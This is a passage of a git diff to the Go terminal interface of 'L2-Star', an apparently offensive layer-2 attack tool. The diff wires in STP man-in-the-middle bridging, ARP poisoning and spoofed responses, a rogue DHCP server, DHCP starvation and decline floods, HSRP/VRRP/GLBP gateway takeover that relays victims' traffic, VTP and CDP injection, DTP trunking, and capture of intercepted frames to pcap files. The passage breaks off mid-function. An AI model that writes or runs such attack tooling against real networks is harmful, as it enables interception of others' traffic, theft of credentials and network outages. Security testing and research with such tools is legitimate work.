@@ -2,24 +2,34 @@ package ui
 
 import (
 	"fmt"
+	"io"
 	"net"
+	"os"
+	"strconv"
 	"strings"
 	"time"
 
+	"github.com/gnpaone/l2star/internal/bridge"
 	"github.com/gnpaone/l2star/internal/core"
+	"github.com/gnpaone/l2star/internal/forward"
+	"github.com/gnpaone/l2star/internal/gateway"
 	"github.com/gnpaone/l2star/internal/proto/arp"
 	"github.com/gnpaone/l2star/internal/proto/cdp"
 	"github.com/gnpaone/l2star/internal/proto/dhcp"
 	"github.com/gnpaone/l2star/internal/proto/dtp"
+	"github.com/gnpaone/l2star/internal/proto/glbp"
 	"github.com/gnpaone/l2star/internal/proto/hsrp"
 	"github.com/gnpaone/l2star/internal/proto/lldp"
 	"github.com/gnpaone/l2star/internal/proto/stp"
+	"github.com/gnpaone/l2star/internal/proto/vrrp"
 	"github.com/gnpaone/l2star/internal/utils"
 
 	l2net "github.com/gnpaone/l2star/internal/net"
 
 	tea "github.com/charmbracelet/bubbletea"
 	"github.com/charmbracelet/lipgloss"
+
+	"github.com/google/gopacket"
 )
 
 type State int
@@ -33,9 +43,45 @@ type AttackStatus struct {
 	Active    bool
 	Protocol  string
 	StopChan  chan struct{}
+	// Done is closed once the attack has stopped and sent its restore packets
+	Done      chan struct{}
 	StartTime time.Time
 }
 
+type tickMsg time.Time
+
+// waitForRestore quits once the attack closing done has sent its restore packets
+func waitForRestore(done chan struct{}) tea.Cmd {
+	return func() tea.Msg {
+		<-done
+		return tea.QuitMsg{}
+	}
+}
+
+// runnerErrMsg reports that a background runner gave up. stop is the stop channel of the
+// attack or forwarder it belonged to, so a late error does not stop a newer one.
+type runnerErrMsg struct {
+	what string
+	err  error
+	stop chan struct{}
+}
+
+// waitForRunnerErr delivers the next error a runner reported on errs
+func waitForRunnerErr(errs chan runnerErrMsg) tea.Cmd {
+	return func() tea.Msg {
+		return <-errs
+	}
+}
+
+// injectAttack sends an attack's packets until its stop channel is closed, then its restore packets
+var injectAttack = l2net.StartAttack
+
+func tick() tea.Cmd {
+	return tea.Tick(time.Second, func(t time.Time) tea.Msg {
+		return tickMsg(t)
+	})
+}
+
 type Model struct {
 	state           State
 	interfaces      []core.Interface
@@ -45,8 +91,37 @@ type Model struct {
 	activeTab      int
 	tabs           []string
 	selectedAttack int
+	peerIface      int
+	bridgeCapture  bool
+	bridge         *bridge.Bridge
+	cdpFlood       *cdp.Flood
+	poisoner       *arp.Poisoner
+	scanner        *arp.Scanner
+	responder      *arp.Responder
+	dhcpServer     *dhcp.Server
+	starver        *dhcp.Starver
+	decliner       *dhcp.Decliner
+	hsrpTakeover   *hsrp.Takeover
+	vrrpTakeover   *vrrp.Takeover
+	glbpTakeover   *glbp.Takeover
+	gateway        *gateway.Gateway
+	hsrpGroup      int
+	vrrpGroup      int
+	glbpGroup      int
+	forwardMode    forward.Mode
+	forwardCapture bool
+	forwarder      *forward.Forwarder
+	forwardStop    chan struct{}
+	runnerErrs     chan runnerErrMsg
+	monitor        *monitor
+	fields         map[string][]field
+	editing        bool
+	typing         bool
+	selectedField  int
+	input          string
 	logs []string
 	attack AttackStatus
+	quitting bool
 	width  int
 	height int
 }
@@ -57,29 +132,55 @@ func InitialModel() Model {
 	m := Model{
 		state:      StateInterfaceSelect,
 		interfaces: ifaces,
-		tabs:       []string{"STP", "CDP", "DTP", "ARP", "LLDP", "DHCP", "HSRP"},
+		tabs:       []string{"STP", "CDP", "DTP", "VTP", "ARP", "LLDP", "DHCP", "HSRP", "VRRP", "GLBP"},
 		logs:       []string{"Welcome to L2-Star. Select an interface to begin."},
+		fields:     defaultFields(),
+		runnerErrs: make(chan runnerErrMsg, 8),
 	}
 	return m
 }
 
 func (m Model) Init() tea.Cmd {
-	return nil
+	return tea.Batch(tick(), waitForRunnerErr(m.runnerErrs))
 }
 
 func (m Model) Update(msg tea.Msg) (tea.Model, tea.Cmd) {
 	switch msg := msg.(type) {
 	case tea.KeyMsg:
+		if m.typing && msg.String() != "ctrl+c" {
+			return m.updateFields(msg)
+		}
 		switch msg.String() {
 		case "ctrl+c", "q":
-			if m.attack.Active {
-				close(m.attack.StopChan)
+			if m.quitting {
+				return m, tea.Quit
+			}
+			m.stopAttack()
+			m.stopForwarding()
+			if m.monitor != nil {
+				m.monitor.Stop()
+			}
+			if m.attack.Done != nil {
+				m.quitting = true
+				m.addLog("Restoring the network before quitting, press q again to quit now.")
+				return m, waitForRestore(m.attack.Done)
 			}
 			return m, tea.Quit
 		}
 	case tea.WindowSizeMsg:
 		m.width = msg.Width
 		m.height = msg.Height
+	case tickMsg:
+		return m, tick()
+	case runnerErrMsg:
+		m.addLog(fmt.Sprintf("%s stopped: %v", msg.what, msg.err))
+		if msg.stop != nil && msg.stop == m.attack.StopChan {
+			m.stopAttack()
+		} else if msg.stop != nil && msg.stop == m.forwardStop {
+			m.stopForwarding()
+			m.forwardMode = forward.ModeOff
+		}
+		return m, waitForRunnerErr(m.runnerErrs)
 	}
 
 	if m.state == StateInterfaceSelect {
@@ -114,6 +215,7 @@ func (m Model) updateInterfaceSelect(msg tea.Msg) (tea.Model, tea.Cmd) {
 					m.addLog("Warning: Could not get valid hardware address. Using dummy?")
 					m.senderMAC, _ = net.ParseMAC("00:11:22:33:44:55")
 				}
+				m.monitor = startMonitor(m.activeInterface, m.senderMAC)
 			}
 		}
 	}
@@ -123,6 +225,9 @@ func (m Model) updateInterfaceSelect(msg tea.Msg) (tea.Model, tea.Cmd) {
 func (m Model) updateMain(msg tea.Msg) (tea.Model, tea.Cmd) {
 	switch msg := msg.(type) {
 	case tea.KeyMsg:
+		if m.editing {
+			return m.updateFields(msg)
+		}
 		switch msg.String() {
 		case "tab", "right", "l":
 			m.activeTab = (m.activeTab + 1) % len(m.tabs)
@@ -140,24 +245,36 @@ func (m Model) updateMain(msg tea.Msg) (tea.Model, tea.Cmd) {
 			if m.attack.Active {
 				m.stopAttack()
 			}
+			m.stopForwarding()
+			m.forwardMode = forward.ModeOff
+			if m.monitor != nil {
+				m.monitor.Stop()
+				m.monitor = nil
+			}
 			m.state = StateInterfaceSelect
 			m.addLog("Returned to Interface Selection.")
 		case "down", "j":
 			max := 0
 			if m.tabs[m.activeTab] == "STP" {
-				max = 1 // 2 attacks
+				max = 2 // 3 attacks
 			} else if m.tabs[m.activeTab] == "CDP" {
 				max = 1 // 2 attacks
 			} else if m.tabs[m.activeTab] == "DTP" {
 				max = 2 // 3 attacks
-			} else if m.tabs[m.activeTab] == "ARP" {
+			} else if m.tabs[m.activeTab] == "VTP" {
 				max = 1 // 2 attacks
+			} else if m.tabs[m.activeTab] == "ARP" {
+				max = 3 // 4 attacks
 			} else if m.tabs[m.activeTab] == "LLDP" {
 				max = 0 // 1 attack
 			} else if m.tabs[m.activeTab] == "DHCP" {
-				max = 1 // 2 attacks
+				max = 3 // 4 attacks
 			} else if m.tabs[m.activeTab] == "HSRP" {
 				max = 0 // 1 attack
+			} else if m.tabs[m.activeTab] == "VRRP" {
+				max = 0 // 1 attack
+			} else if m.tabs[m.activeTab] == "GLBP" {
+				max = 0 // 1 attack
 			}
 			if m.selectedAttack < max {
 				m.selectedAttack++
@@ -166,6 +283,54 @@ func (m Model) updateMain(msg tea.Msg) (tea.Model, tea.Cmd) {
 			if m.selectedAttack > 0 {
 				m.selectedAttack--
 			}
+		case "e":
+			if len(m.fields[m.tabs[m.activeTab]]) > 0 && !m.attack.Active {
+				m.editing = true
+				m.selectedField = 0
+			}
+		case "p":
+			if m.tabs[m.activeTab] == "STP" && !m.attack.Active && len(m.interfaces) > 0 {
+				m.peerIface = (m.peerIface + 1) % len(m.interfaces)
+			}
+		case "w":
+			if m.tabs[m.activeTab] == "STP" && !m.attack.Active {
+				m.bridgeCapture = !m.bridgeCapture
+			}
+		case "v":
+			if m.tabs[m.activeTab] == "DTP" && m.monitor != nil {
+				m.createSubinterfaces()
+			}
+		case "f":
+			if m.monitor != nil {
+				m.setForwarding((m.forwardMode + 1) % 3)
+			}
+		case "c":
+			m.forwardCapture = !m.forwardCapture
+			m.addLog(fmt.Sprintf("Capture of intercepted traffic: %v (applies when forwarding starts)", m.forwardCapture))
+		case "x":
+			if m.tabs[m.activeTab] == "ARP" && m.scanner != nil {
+				m.exportScan()
+			}
+		case "g":
+			if m.tabs[m.activeTab] == "HSRP" && m.monitor != nil && !m.attack.Active {
+				m.selectHSRPGroup()
+			}
+			if m.tabs[m.activeTab] == "VRRP" && m.monitor != nil && !m.attack.Active {
+				m.selectVRRPGroup()
+			}
+			if m.tabs[m.activeTab] == "GLBP" && m.monitor != nil && !m.attack.Active {
+				m.selectGLBPGroup()
+			}
+		case "r":
+			if m.tabs[m.activeTab] == "DHCP" && m.monitor != nil {
+				n, err := m.monitor.dhcp.DB().LoadFile(fingerprintFile)
+				if err != nil {
+					m.addLog(fmt.Sprintf("Failed to load %s: %v", fingerprintFile, err))
+					break
+				}
+				m.monitor.dhcp.Rematch()
+				m.addLog(fmt.Sprintf("Loaded %d fingerprints from %s", n, fingerprintFile))
+			}
 		case " ":
 			if m.attack.Active {
 				m.stopAttack()
@@ -177,12 +342,378 @@ func (m Model) updateMain(msg tea.Msg) (tea.Model, tea.Cmd) {
 	return m, nil
 }
 
+// peerInterface returns the interface bridged with the active one for the STP MitM attack
+func (m Model) peerInterface() string {
+	if len(m.interfaces) == 0 {
+		return ""
+	}
+	return m.interfaces[m.peerIface%len(m.interfaces)].Name
+}
+
+// startBridge runs the STP MitM: both interfaces claim root and frames are forwarded between them
+func (m *Model) startBridge(stopChan chan struct{}) {
+	peer := m.peerInterface()
+	if peer == "" || peer == m.activeInterface {
+		m.addLog("Select a second interface with 'p' for the MitM bridge.")
+		m.attack.Active = false
+		return
+	}
+
+	macs := [2]net.HardwareAddr{m.senderMAC, m.senderMAC}
+	if iface, err := net.InterfaceByName(peer); err == nil && len(iface.HardwareAddr) > 0 {
+		macs[bridge.SideB] = iface.HardwareAddr
+	}
+
+	cfg := bridge.Config{
+		Rules: []bridge.Rule{bridge.DropBPDUs()},
+		BPDUGenerator: func(side bridge.Side) ([]byte, error) {
+			return stp.CraftRootClaimBPDU(macs[side])
+		},
+		BPDUInterval: 2 * time.Second,
+		StopChan:     stopChan,
+	}
+
+	var capture *os.File
+	if m.bridgeCapture {
+		name := fmt.Sprintf("l2star-bridge-%s.pcap", time.Now().Format("20060102-150405"))
+		f, err := os.Create(name)
+		if err != nil {
+			m.addLog(fmt.Sprintf("Could not create capture file: %v", err))
+		} else {
+			capture = f
+			cfg.Capture = f
+			m.addLog(fmt.Sprintf("Writing bridged frames to %s", name))
+		}
+	}
+
+	m.bridge = bridge.New(cfg)
+	m.addLog(fmt.Sprintf("Bridging %s <-> %s", m.activeInterface, peer))
+
+	br := m.bridge
+	active := m.activeInterface
+	fail := m.reporter("Bridge", stopChan)
+	done := make(chan struct{})
+	m.attack.Done = done
+	go func() {
+		defer close(done)
+		if capture != nil {
+			defer capture.Close()
+		}
+		if err := l2net.StartBridge(active, peer, br); err != nil {
+			fail(err)
+		}
+	}()
+}
+
+// createSubinterfaces adds an 802.1Q subinterface for every VLAN discovered on the trunk
+func (m *Model) createSubinterfaces() {
+	vlans := m.monitor.vlans.VLANs()
+	if len(vlans) == 0 {
+		m.addLog("No VLANs discovered yet.")
+		return
+	}
+
+	for _, v := range vlans {
+		name, err := l2net.CreateVLANInterface(m.activeInterface, v.ID)
+		if err != nil {
+			m.addLog(fmt.Sprintf("VLAN %d: %v", v.ID, err))
+			continue
+		}
+		m.addLog(fmt.Sprintf("Created %s", name))
+	}
+
+	if ifaces, err := l2net.ListInterfaces(); err == nil {
+		m.interfaces = ifaces
+	}
+}
+
+// setForwarding switches how intercepted traffic is forwarded. Kernel mode enables
+// ip_forward and only counts; userspace mode disables it and relays frames to the real next hop.
+func (m *Model) setForwarding(mode forward.Mode) {
+	m.stopForwarding()
+	m.forwardMode = mode
+	if mode == forward.ModeOff {
+		m.addLog("Forwarding off.")
+		return
+	}
+
+	mon := m.monitor
+	cfg := forward.Config{
+		OurMAC:  m.senderMAC,
+		Subnet:  m.senderSubnet(),
+		Gateway: l2net.DefaultGateway(m.activeInterface),
+		Resolve: mon.arp.Lookup,
+	}
+	if ip := m.senderIP(); ip != nil {
+		cfg.OurIPs = []net.IP{ip}
+	}
+
+	var capture *os.File
+	if m.forwardCapture {
+		name := fmt.Sprintf("l2star-forward-%s.pcap", time.Now().Format("20060102-150405"))
+		f, err := os.Create(name)
+		if err != nil {
+			m.addLog(fmt.Sprintf("Could not create capture file: %v", err))
+		} else {
+			capture = f
+			cfg.Capture = f
+			m.addLog(fmt.Sprintf("Writing intercepted frames to %s", name))
+		}
+	}
+
+	stop := make(chan struct{})
+	cfg.StopChan = stop
+	fw, err := forward.New(cfg)
+	if err != nil {
+		m.addLog(fmt.Sprintf("Could not start forwarding: %v", err))
+		m.forwardMode = forward.ModeOff
+		return
+	}
+	m.forwarder = fw
+	m.forwardStop = stop
+
+	if mode == forward.ModeKernel {
+		if err := l2net.EnableIPForward(m.activeInterface); err != nil {
+			m.addLog(fmt.Sprintf("Could not enable ip_forward: %v", err))
+		}
+		mon.attach("forward", func(packet gopacket.Packet) { fw.Count(packet) })
+		go func() {
+			<-stop
+			if capture != nil {
+				capture.Close()
+			}
+		}()
+	} else {
+		if err := l2net.DisableIPForward(); err != nil {
+			m.addLog(fmt.Sprintf("Could not disable ip_forward: %v", err))
+		}
+		iface := m.activeInterface
+		fail := m.reporter("Forwarder", stop)
+		go func() {
+			if capture != nil {
+				defer capture.Close()
+			}
+			if err := l2net.StartForwarder(iface, fw); err != nil {
+				fail(err)
+			}
+		}()
+	}
+	m.addLog(fmt.Sprintf("Forwarding intercepted traffic (%s).", mode))
+}
+
+// stopForwarding stops the forwarder and restores the kernel settings
+func (m *Model) stopForwarding() {
+	if m.forwarder == nil {
+		return
+	}
+	close(m.forwardStop)
+	if m.monitor != nil {
+		m.monitor.detach("forward")
+	}
+	if err := l2net.RestoreIPForward(); err != nil {
+		m.addLog(err.Error())
+	}
+	m.forwarder = nil
+	m.forwardStop = nil
+}
+
+// startResponder runs the reactive ARP responder until stopChan is closed
+func (m *Model) startResponder(stopChan chan struct{}) {
+	cfg, _ := m.arpResponderConfig()
+	cfg.StopChan = stopChan
+	m.responder = arp.NewResponder(cfg)
+
+	r := m.responder
+	iface := m.activeInterface
+	fail := m.reporter("ARP responder", stopChan)
+	done := make(chan struct{})
+	m.attack.Done = done
+	go func() {
+		defer close(done)
+		if err := l2net.StartResponder(iface, "arp", r); err != nil {
+			fail(err)
+		}
+	}()
+}
+
+// startGateway impersonates the gateway at vip and vmac won by a first hop redundancy
+// takeover until stopChan is closed, relaying the victims' frames to the Upstream of
+// tab or, when blank, to the router learned from the group
+func (m *Model) startGateway(stopChan chan struct{}, tab string, vip net.IP, vmac net.HardwareAddr, learned net.IP) {
+	m.gateway = nil
+	upstream, off, _ := m.gatewayUpstream(tab)
+	if off {
+		return
+	}
+	if upstream == nil {
+		upstream = learned
+	}
+	if upstream == nil {
+		m.addLog("No real router learned in the group: set Upstream to relay the victims' traffic.")
+		return
+	}
+
+	mon := m.monitor
+	resolve := func(ip net.IP) (net.HardwareAddr, bool) {
+		if mon == nil {
+			return nil, false
+		}
+		if mac, ok := mon.hsrp.RouterMAC(ip); ok {
+			return mac, true
+		}
+		if mac, ok := mon.vrrp.RouterMAC(ip); ok {
+			return mac, true
+		}
+		if mac, ok := mon.glbp.RouterMAC(ip); ok {
+			return mac, true
+		}
+		return mon.arp.Lookup(ip)
+	}
+	gw, err := gateway.New(gateway.Config{
+		VIP:        vip,
+		VirtualMAC: vmac,
+		OurMAC:     m.senderMAC,
+		Upstream:   upstream,
+		Resolve:    resolve,
+		StopChan:   stopChan,
+	})
+	if err != nil {
+		m.addLog(fmt.Sprintf("Not impersonating the gateway: %v", err))
+		return
+	}
+	m.gateway = gw
+	m.addLog(fmt.Sprintf("Answering for %s at %s, relaying to %s", vip, vmac, upstream))
+
+	iface := m.activeInterface
+	fail := m.reporter("Gateway", stopChan)
+	go func() {
+		if err := l2net.StartResponder(iface, gw.Filter(), gw); err != nil {
+			fail(err)
+		}
+	}()
+}
+
+// startDHCPServer runs the rogue DHCP server until stopChan is closed
+func (m *Model) startDHCPServer(stopChan chan struct{}) {
+	cfg, _ := m.dhcpServerConfig()
+	cfg.StopChan = stopChan
+	m.dhcpServer = dhcp.NewServer(cfg)
+	m.addLog(fmt.Sprintf("Rogue DHCP server %s handing out %s (%s)", cfg.ServerIP, cfg.Pool, cfg.Respond))
+
+	srv := m.dhcpServer
+	iface := m.activeInterface
+	fail := m.reporter("DHCP server", stopChan)
+	done := make(chan struct{})
+	m.attack.Done = done
+	go func() {
+		defer close(done)
+		if err := l2net.StartResponder(iface, "udp and (port 67 or port 68)", srv); err != nil {
+			fail(err)
+		}
+	}()
+}
+
+// selectHSRPGroup fills the HSRP settings from the next learned group
+func (m *Model) selectHSRPGroup() {
+	groups := m.monitor.hsrp.Groups()
+	if len(groups) == 0 {
+		m.addLog("No HSRP groups learned yet.")
+		return
+	}
+	g := groups[m.hsrpGroup%len(groups)]
+	m.hsrpGroup++
+	m.setFieldValue("HSRP", "Version", strconv.Itoa(int(g.Version)))
+	m.setFieldValue("HSRP", "Group", strconv.Itoa(int(g.Number)))
+	m.setFieldValue("HSRP", "VIP", g.VIP.String())
+	m.setFieldValue("HSRP", "Auth", g.Auth)
+	m.setFieldValue("HSRP", "Hellotime", strconv.Itoa(int(g.Hellotime)))
+	m.setFieldValue("HSRP", "Holdtime", strconv.Itoa(int(g.Holdtime)))
+	m.setFieldValue("HSRP", "Key ID", strconv.Itoa(int(g.KeyID)))
+	if g.MD5 {
+		m.addLog(fmt.Sprintf("HSRP group %d uses MD5 authentication: set its MD5 Key", g.Number))
+	}
+	m.addLog(fmt.Sprintf("Takeover set to HSRP group %d (VIP %s)", g.Number, g.VIP))
+}
+
+// selectVRRPGroup fills the VRRP settings from the next learned virtual router
+func (m *Model) selectVRRPGroup() {
+	groups := m.monitor.vrrp.Groups()
+	if len(groups) == 0 {
+		m.addLog("No VRRP advertisements seen yet.")
+		return
+	}
+	g := groups[m.vrrpGroup%len(groups)]
+	m.vrrpGroup++
+	addrs := make([]string, len(g.Addresses))
+	for i, a := range g.Addresses {
+		addrs[i] = a.String()
+	}
+	m.setFieldValue("VRRP", "Version", strconv.Itoa(int(g.Version)))
+	m.setFieldValue("VRRP", "VRID", strconv.Itoa(int(g.VRID)))
+	m.setFieldValue("VRRP", "Addresses", strings.Join(addrs, ","))
+	m.setFieldValue("VRRP", "Interval", g.Interval.String())
+	m.setFieldValue("VRRP", "Auth", g.Auth)
+	if g.AuthType == vrrp.AuthAH {
+		m.addLog(fmt.Sprintf("VRRP router %d uses IPsec AH authentication, which is not supported", g.VRID))
+	}
+	m.addLog(fmt.Sprintf("Takeover set to VRRP virtual router %d (%s)", g.VRID, strings.Join(addrs, ",")))
+}
+
+// selectGLBPGroup fills the GLBP settings from the next learned group
+func (m *Model) selectGLBPGroup() {
+	groups := m.monitor.glbp.Groups()
+	if len(groups) == 0 {
+		m.addLog("No GLBP groups learned yet.")
+		return
+	}
+	g := groups[m.glbpGroup%len(groups)]
+	m.glbpGroup++
+	m.setFieldValue("GLBP", "Group", strconv.Itoa(int(g.Number)))
+	m.setFieldValue("GLBP", "VIP", g.VIP.String())
+	m.setFieldValue("GLBP", "Forwarder", strconv.Itoa(int(g.FreeForwarder())))
+	m.setFieldValue("GLBP", "Auth", g.Auth)
+	m.setFieldValue("GLBP", "Hellotime", g.Hellotime.String())
+	m.setFieldValue("GLBP", "Holdtime", g.Holdtime.String())
+	if g.AuthType == glbp.AuthMD5 || g.AuthType == glbp.AuthMD5Chain {
+		m.addLog(fmt.Sprintf("GLBP group %d uses MD5 authentication, which is not supported", g.Number))
+	}
+	m.addLog(fmt.Sprintf("Takeover set to GLBP group %d (VIP %s)", g.Number, g.VIP))
+}
+
+// exportScan writes the ARP scan host table to CSV and JSON files in the working directory
+func (m *Model) exportScan() {
+	hosts := m.scanner.Hosts()
+	base := fmt.Sprintf("l2star-scan-%s", time.Now().Format("20060102-150405"))
+	writers := map[string]func(io.Writer, []arp.ScanHost) error{
+		".csv":  arp.WriteCSV,
+		".json": arp.WriteJSON,
+	}
+	for _, ext := range []string{".csv", ".json"} {
+		f, err := os.Create(base + ext)
+		if err != nil {
+			m.addLog(fmt.Sprintf("Could not create export file: %v", err))
+			return
+		}
+		err = writers[ext](f, hosts)
+		f.Close()
+		if err != nil {
+			m.addLog(fmt.Sprintf("Could not write %s: %v", base+ext, err))
+			return
+		}
+	}
+	m.addLog(fmt.Sprintf("Exported %d hosts to %s.csv and %s.json", len(hosts), base, base))
+}
+
 func (m *Model) startAttack() {
 	if m.attack.Active {
 		return
 	}
 
 	protocol := m.tabs[m.activeTab]
+	if err := m.checkFields(protocol); err != nil {
+		m.addLog(fmt.Sprintf("Invalid %s settings: %v", protocol, err))
+		return
+	}
 	m.addLog(fmt.Sprintf("Starting %s attack on %s...", protocol, m.activeInterface))
 
 	stopChan := make(chan struct{})
@@ -193,7 +724,176 @@ func (m *Model) startAttack() {
 		StartTime: time.Now(),
 	}
 
+	if protocol == "STP" && m.selectedAttack == 2 {
+		m.startBridge(stopChan)
+		return
+	}
+
+	if protocol == "ARP" && m.selectedAttack == 3 {
+		m.startResponder(stopChan)
+		return
+	}
+
+	if protocol == "DHCP" && m.selectedAttack == 1 {
+		m.startDHCPServer(stopChan)
+		return
+	}
+
+	var vtpFrames [][]byte
+	if protocol == "VTP" {
+		frames, err := m.vtpAdvertisement()
+		if err != nil {
+			m.addLog(fmt.Sprintf("Invalid VTP settings: %v", err))
+			m.attack.Active = false
+			return
+		}
+		vtpFrames = frames
+	}
+
+	mon := m.monitor
+	var poisoner *arp.Poisoner
+	if protocol == "ARP" && m.selectedAttack == 2 {
+		if mon == nil {
+			m.addLog("ARP MitM needs the interface monitor to resolve MACs.")
+			m.attack.Active = false
+			return
+		}
+		poisonCfg, _ := m.arpPoisonConfig()
+		poisonCfg.Cache = mon.arp
+		poisoner = arp.NewPoisoner(poisonCfg)
+		m.poisoner = poisoner
+	}
+
+	var scanner *arp.Scanner
+	if protocol == "ARP" && m.selectedAttack == 1 {
+		if mon == nil {
+			m.addLog("ARP scan needs the interface monitor to collect replies.")
+			m.attack.Active = false
+			return
+		}
+		targets, _ := m.arpScanTargets()
+		scanner = arp.NewScanner(m.senderMAC, m.senderIP(), targets)
+		mon.attach("arp-scan", func(packet gopacket.Packet) { scanner.Update(packet) })
+		m.scanner = scanner
+		m.addLog(fmt.Sprintf("Scanning %d addresses", len(targets)))
+	}
+
+	var starver *dhcp.Starver
+	if protocol == "DHCP" && m.selectedAttack == 0 {
+		relay, _ := m.dhcpRelay()
+		if relay != nil {
+			// The server, or the router towards it, must already be in the ARP cache
+			hop := relay.ServerIP
+			if subnet := m.senderSubnet(); subnet == nil || !subnet.Contains(hop) {
+				hop = l2net.DefaultGateway(m.activeInterface)
+			}
+			if mon != nil && hop != nil {
+				relay.NextHop, _ = mon.arp.Lookup(hop)
+			}
+			if relay.NextHop == nil {
+				m.addLog("Relay starvation needs the MAC of the server or gateway, run an ARP scan first.")
+				m.attack.Active = false
+				return
+			}
+			m.addLog(fmt.Sprintf("Relaying to %s as agent %s via %s", relay.ServerIP, relay.AgentIP, relay.NextHop))
+		}
+		starver = dhcp.NewStarver(dhcp.StarveConfig{Relay: relay, StopChan: stopChan})
+		m.starver = starver
+		iface := m.activeInterface
+		fail := m.reporter("DHCP starver", stopChan)
+		go func() {
+			if err := l2net.StartResponder(iface, "udp and (port 67 or port 68)", starver); err != nil {
+				fail(err)
+			}
+		}()
+	}
+
+	var decliner *dhcp.Decliner
+	if protocol == "DHCP" && m.selectedAttack == 3 {
+		decliner = dhcp.NewDecliner(stopChan)
+		m.decliner = decliner
+		iface := m.activeInterface
+		fail := m.reporter("DHCP decliner", stopChan)
+		go func() {
+			if err := l2net.StartResponder(iface, "udp and (port 67 or port 68)", decliner); err != nil {
+				fail(err)
+			}
+		}()
+	}
+
+	var flood *cdp.Flood
+	if protocol == "CDP" && m.selectedAttack == 1 {
+		floodCfg, _ := m.cdpFloodConfig()
+		flood = cdp.NewFlood(floodCfg)
+		m.cdpFlood = flood
+	}
+
+	var takeover *hsrp.Takeover
+	if protocol == "HSRP" {
+		hsrpCfg, _ := m.hsrpConfig()
+		takeover = hsrp.NewTakeover(m.senderMAC, hsrpCfg)
+		m.hsrpTakeover = takeover
+		if m.monitor != nil {
+			m.monitor.hsrp.IgnoreIP(hsrpCfg.SourceIP)
+		}
+
+		var learned net.IP
+		if m.monitor != nil {
+			for _, g := range m.monitor.hsrp.Groups() {
+				if g.Number == hsrpCfg.Group && g.Version == takeover.Config().Version && g.IPv6() == (hsrpCfg.VIP.To4() == nil) {
+					if r, ok := g.Upstream(); ok {
+						learned = r.IP
+					}
+				}
+			}
+		}
+		m.startGateway(stopChan, "HSRP", hsrpCfg.VIP, hsrpCfg.VirtualMAC(), learned)
+	}
+
+	var vrrpTakeover *vrrp.Takeover
+	if protocol == "VRRP" {
+		vrrpCfg, _ := m.vrrpConfig()
+		vrrpTakeover = vrrp.NewTakeover(m.senderMAC, vrrpCfg)
+		m.vrrpTakeover = vrrpTakeover
+		var learned net.IP
+		if m.monitor != nil {
+			m.monitor.vrrp.IgnoreIP(vrrpCfg.SourceIP)
+			for _, g := range m.monitor.vrrp.Groups() {
+				if g.VRID == vrrpCfg.VRID && g.Version == vrrpTakeover.Config().Version && g.IPv6() == vrrpCfg.IPv6() {
+					if r, ok := g.Upstream(); ok {
+						learned = r.IP
+					}
+				}
+			}
+		}
+		m.startGateway(stopChan, "VRRP", vrrpCfg.Addresses[0], vrrpCfg.VirtualMAC(), learned)
+	}
+
+	var glbpTakeover *glbp.Takeover
+	if protocol == "GLBP" {
+		glbpCfg, _ := m.glbpConfig()
+		glbpTakeover = glbp.NewTakeover(m.senderMAC, glbpCfg)
+		m.glbpTakeover = glbpTakeover
+		var learned net.IP
+		if m.monitor != nil {
+			for _, g := range m.monitor.glbp.Groups() {
+				if r, ok := g.Upstream(); ok && g.Number == glbpCfg.Group {
+					learned = r.IP
+				}
+			}
+		}
+		if glbpCfg.Forwarder != 0 {
+			m.startGateway(stopChan, "GLBP", glbpCfg.VIP, glbp.VirtualMAC(glbpCfg.Group, glbpCfg.Forwarder), learned)
+		} else {
+			m.gateway = nil
+		}
+	}
+
+	fail := m.reporter(protocol+" attack", stopChan)
+	done := make(chan struct{})
+	m.attack.Done = done
 	go func() {
+		defer close(done)
 		var packet []byte
 		var err error
 		var cfg core.AttackConfig
@@ -214,25 +914,20 @@ func (m *Model) startAttack() {
 			}
 		case "CDP":
 			if m.selectedAttack == 1 {
-				generator := func() ([]byte, error) {
-					return cdp.CraftCDPDoS(m.senderMAC)
-				}
+				frequency, burst := rateToTicks(m.cdpFloodRate())
 				cfg = core.AttackConfig{
 					InterfaceName: m.activeInterface,
-					Generator:     generator,
-					Frequency:     100 * time.Millisecond,
+					Generator:     flood.Next,
+					Frequency:     frequency,
+					Burst:         burst,
 					StopChan:      stopChan,
 				}
 			} else {
-				packet, err = cdp.CraftCDPNeighborAnnouncement(
-					m.senderMAC,
-					"Core-Switch-01",
-					"GigabitEthernet0/1",
-					"Cisco c3750",
-					"Cisco IOS Software, C3750 Software (C3750-IPSERVICESK9-M), Version 12.2(55)SE1",
-					0x00000028,
-					1,
-				)
+				var identity *cdp.CustomCDPLayer
+				identity, err = m.cdpIdentity()
+				if err == nil {
+					packet, err = cdp.CraftCDPFrame(m.senderMAC, identity)
+				}
 				cfg = core.AttackConfig{
 					InterfaceName: m.activeInterface,
 					StaticPacket:  packet,
@@ -242,26 +937,63 @@ func (m *Model) startAttack() {
 			}
 
 		case "DTP":
-			switch m.selectedAttack {
-			case 0:
-				packet, err = dtp.CraftDTPDesirablePacket(m.senderMAC)
-			case 1:
-				packet, err = dtp.CraftDTPAutoPacket(m.senderMAC)
-			case 2:
-				packet, err = dtp.CraftDTPTrunkPacket(m.senderMAC)
+			dtpCfg, _ := m.dtpConfig()
+			learn := m.fieldValue("DTP", "Domain") == "auto"
+			status := []byte{dtp.ModeDesirable, dtp.ModeAuto, dtp.StatusTrunking | dtp.ModeOn}[m.selectedAttack]
+			generator := func() ([]byte, error) {
+				frameCfg := dtpCfg
+				if learn && mon != nil {
+					frameCfg.Domain = mon.vtpDomain()
+				}
+				return dtp.CraftDTPPacket(m.senderMAC, status, frameCfg)
 			}
 			cfg = core.AttackConfig{
 				InterfaceName: m.activeInterface,
-				StaticPacket:  packet,
+				Generator:     generator,
+				Frequency:     1 * time.Second,
+				StopChan:      stopChan,
+			}
+		case "VTP":
+			// Summary then Subsets, repeated so the switches keep hearing the revision
+			next := 0
+			generator := func() ([]byte, error) {
+				frame := vtpFrames[next%len(vtpFrames)]
+				next++
+				return frame, nil
+			}
+			cfg = core.AttackConfig{
+				InterfaceName: m.activeInterface,
+				Generator:     generator,
 				Frequency:     1 * time.Second,
 				StopChan:      stopChan,
 			}
 		case "ARP":
-			if m.selectedAttack == 0 {
-				packet, err = arp.CraftARPReply(m.senderMAC, net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}, net.ParseIP("192.168.1.1"), net.ParseIP("192.168.1.255"))
-			} else {
-				packet, err = arp.CraftARPRequest(m.senderMAC, net.ParseIP("192.168.1.100"), net.ParseIP("192.168.1.1"))
+			if m.selectedAttack == 2 {
+				interval, _ := m.arpInterval()
+				rounds, _ := parseUint(m.fieldValue("ARP", "Restore Rounds"), 8)
+				cfg = core.AttackConfig{
